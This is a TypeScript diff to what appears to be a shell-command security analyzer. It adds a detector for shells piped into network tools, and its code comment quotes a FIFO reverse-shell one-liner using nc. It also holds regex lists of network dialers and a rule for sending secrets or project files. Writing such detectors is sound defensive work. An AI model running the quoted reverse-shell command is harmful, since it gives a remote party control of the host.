@@ -1,4 +1,5 @@
 import type { SimpleCommand } from '../../shell/simple-command.ts'
+import { isShell } from '../../shell/wrappers/wrappers.ts'
 import { lineOf } from '../line.ts'
 import { has, type Look, type Scene, valuesAfter } from '../scene.ts'
 
@@ -75,6 +76,8 @@ export const sender: Look = (command, scene, at) => {
   const producers = scene.feeding(at)
   const inText = lineOf(command)
   for (const producer of producers) {
+    // `mkfifo f; cat f | sh -i | nc host 4444 > f`
+    if (isShell(producer.name) && DIALS.test(command.name)) scene.add('runs', 'remote', command, lineOf(producer))
     if (showsSecret(producer, scene)) scene.add('sends', 'secret', command, lineOf(producer))
     if (/^(?:nc|ncat|netcat|curl|socat)$/.test(command.name) && packsProject(producer, scene))
       scene.add('sends', 'project', command, lineOf(producer))
@@ -86,6 +89,8 @@ export const sender: Look = (command, scene, at) => {
     )
       scene.add('sends', 'secret', command, inner)
 }
+
+const DIALS = /^(?:nc|ncat|netcat|socat|telnet|openssl)$/
 
 function showsSecret(producer: SimpleCommand, scene: Scene): boolean {
   if (
